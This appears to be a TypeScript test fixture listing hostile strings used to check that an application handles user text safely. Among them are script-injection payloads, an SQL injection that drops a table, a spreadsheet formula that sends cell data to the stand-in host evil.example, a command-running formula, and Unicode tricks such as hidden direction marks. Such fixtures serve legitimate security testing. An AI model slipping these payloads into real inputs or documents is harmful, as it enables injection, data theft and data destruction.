/** Texts that attack whoever shows, prints, exports or stores them, by what they are. */
export const hostileTexts: Record<string, string> = {
  'HTML with a script': `"><img src=x onerror="window.hacked=1"><script>window.hacked=1</script>`,
  'an address that is a script': 'javascript:window.hacked=1//',
  'a formula': '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'a formula behind a mark of direction': "\u202e=cmd|' /C calc'!A0",
  'a formula behind no width': '\u200b+1+1',
  'text from right to left': '\u202eRUPEES\u2066\u2067مرحبا',
  'text of no width': '\u200b\u200d\ufeff\u2060',
  'emoji of 4 bytes': '👩‍👩‍👧‍👦🏳️‍🌈💸',
  'half a character': 'a\ud83d',
  'the end of a text': 'a\u0000b',
  '10,000 marks over one letter': `e${'\u0301'.repeat(10_000)}`,
  '100 marks over one letter': `e${'\u0301'.repeat(100)}`,
  'SQL and wildcards': `'; drop table sales; -- %_\\`,
}
